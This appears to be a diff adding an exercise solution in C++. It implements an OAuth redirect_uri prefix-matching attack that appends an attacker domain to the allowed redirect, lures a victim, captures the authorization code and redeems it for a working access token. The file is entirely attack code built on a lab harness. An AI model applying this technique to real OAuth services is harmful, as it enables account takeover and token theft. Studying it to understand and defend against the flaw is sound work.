@@ -1,0 +1,22 @@
+// Believes: the token is the loot.
+#include "redirect_prefix.hpp"
+#include "web/url_text.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  const auto trap = evidence.redirect_uri + "." + evidence.your_domain + "/";
+  const auto caught = evidence.lure(
+      evidence.authorize + "?" +
+      web::encode_form(
+          {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));
+  const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
+                                       {"client_id", evidence.client_id},
+                                       {"redirect_uri", trap},
+                                       {"code", parameter(caught, "code")}});
+  const auto token = answer.json().text("access_token").value_or("");
+  if (evidence.show_me(token).status != 200) return {};
+  return {.account = token};
+}
+
+}  // namespace lesson
